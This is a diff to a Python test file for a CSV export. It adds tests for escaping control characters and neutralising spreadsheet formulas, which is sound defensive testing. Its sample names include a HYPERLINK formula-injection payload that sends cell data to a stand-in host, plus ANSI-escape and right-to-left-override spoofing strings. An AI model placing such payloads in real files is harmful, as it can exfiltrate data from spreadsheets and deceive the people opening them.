@@ -1,7 +1,11 @@
 """decisions.csv made by SQLite's printf, range by range, here or in worker processes, is
 byte for byte the CSV Python's csv module writes from the plain rows: same rows, same order
 (ties in received time included), same quoting (NUL characters, quotes, commas and line
-breaks too), with or without filters; on a real SQLite file."""
+breaks too), the same escaped control characters and the same guard on cells a spreadsheet
+would read as a formula, with or without filters; on a real SQLite file.
+
+(Control characters are written as escapes and formula-like cells get a leading apostrophe
+since the untrusted-text work of issue 14: the assertions below expect that on purpose.)"""
 
 from __future__ import annotations
 
@@ -12,6 +16,7 @@ import io
 import pytest
 
 from detainer_desk.adapters.db import repository
+from detainer_desk.domain.text import csv_cell
 from detainer_desk.services.export import EXPORT_COLUMNS, export_csv
 from detainer_desk.services.ports import Actor, DecisionQuery
 from detainer_desk.services.records import activate_policy, record_decision
@@ -25,6 +30,11 @@ NAMES = [
     "O'BRIEN, Seán",
     "GARCÍA, María José",
     "TWO\r\nLINES, Name",
+    '=HYPERLINK("http://x.example/?"&A1,"open"), Eve',
+    "+1 SMITH, Ann",
+    "-2 JONES, Bo",
+    "@SUM(A1), Cy",
+    "ESC\x1b[31m RED, Dee \u202etxt.exe",
 ]
 
 
@@ -87,7 +97,8 @@ def test_the_csv_command_path_reads_back(store, tmp_path) -> None:
     with target.open(encoding="utf-8", newline="") as handle:
         rows = list(csv.reader(handle))
     assert rows[0] == list(EXPORT_COLUMNS) and len(rows) == count + 1 == 24
-    assert {row[EXPORT_COLUMNS.index("Subject Name")] for row in rows[1:]} == set(NAMES)
+    written = {row[EXPORT_COLUMNS.index("Subject Name")] for row in rows[1:]}
+    assert written == {csv_cell(name) for name in NAMES}
     text = target.read_bytes()
     assert text.startswith(b'"Decision ID","Detainer Received Date"')
 
@@ -98,7 +109,7 @@ def test_a_stored_nul_character_is_written_out(store) -> None:
     tamper(store, "UPDATE requests SET subject_name = 'NUL' || char(0) || ' IN' WHERE id = 5")
     with store.uow() as uow:
         by_rows = "".join(t for t, _ in uow.records.export_csv_by_rows(DecisionQuery()))
-    assert '"NUL\x00 IN"' in by_rows
+    assert '"NUL\\u0000 IN"' in by_rows  # escaped, never a raw NUL
     assert _csv(store, DecisionQuery(), workers=1)[0] == by_rows
     assert _csv(store, DecisionQuery(), workers=2)[0] == by_rows
 
@@ -118,7 +129,9 @@ def test_both_databases_write_the_same_csv(db_runtime, tmp_path) -> None:
     )
     rows = list(csv.reader(io.StringIO(handle.getvalue(), newline="")))
     assert count == len(NAMES) == len(rows) - 1
-    assert [row[EXPORT_COLUMNS.index("Subject Name")] for row in rows[1:]] == NAMES
+    assert [row[EXPORT_COLUMNS.index("Subject Name")] for row in rows[1:]] == [
+        csv_cell(name) for name in NAMES
+    ]
     hashes = handle.getvalue().split("\r\n")[1].rsplit(",", 2)
     assert hashes[1].isdigit() and hashes[2].startswith('"')  # seq bare, hash quoted
 
